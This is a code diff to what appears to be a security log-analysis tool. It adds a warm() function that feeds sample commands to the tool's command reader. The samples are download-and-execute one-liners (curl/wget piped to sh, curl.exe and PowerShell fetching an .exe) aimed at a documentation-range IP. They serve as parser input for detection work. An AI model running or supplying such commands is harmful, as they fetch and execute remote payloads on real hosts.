@@ -207,6 +207,21 @@ class LiveReader:
         return data if ask is None else data[: ask(data)]
 
 
+def warm() -> None:
+    """Load what reading commands needs, before the first one comes."""
+    from tidewaiter.reading.reader import read
+
+    for command, platform in _COMMON:
+        read(command, platform)
+
+
+_COMMON = (
+    ("curl -o /tmp/a http://198.51.100.1/a && sh -c 'wget -O- http://198.51.100.1/b | sh'", "linux"),
+    ("cmd.exe /c curl.exe -o a.exe http://198.51.100.1/a.exe", "windows"),
+    ("powershell.exe -c \"iwr http://198.51.100.1/a -OutFile a.exe\"", "windows"),
+)
+
+
 def header_of(head: bytes) -> bytes:
     """The lines at the top of a log that say what its columns are (Zeek, W3C): those that begin with `#`."""
     end = 0
